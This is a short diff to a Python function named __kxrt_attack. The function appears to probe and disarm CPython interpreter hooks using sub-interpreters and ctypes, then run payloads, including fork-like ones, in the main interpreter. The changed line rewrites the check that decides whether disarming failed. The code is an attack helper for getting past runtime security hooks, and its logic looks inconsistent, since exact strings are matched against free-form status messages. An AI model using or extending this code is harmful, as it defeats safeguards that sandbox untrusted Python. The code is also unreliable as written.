@@ -138,7 +138,7 @@ def __kxrt_attack(PAYLOAD, P, SUB):
             how.append('no hook refused the probe')
     except BaseException as e:
         how.append('cells failed: %r' % (e,))
-    armed = 'cells' not in how and 'already' not in how and not ('no hook refused the probe' in how and g is None)
+    armed = not ({'cells', 'already', 'no hook refused the probe'} & set(how))  # (a hook that refuses neither probe stops nothing here)
     if armed:  # a hook that still refuses: neither the main interpreter nor ctypes can be used
         return 'DISARM FAILED (%s): the main interpreter still has its hook' % ', '.join(how)
     if P.get('_main'):  # fork-like payloads: CPython refuses fork in sub-interpreters, so run here
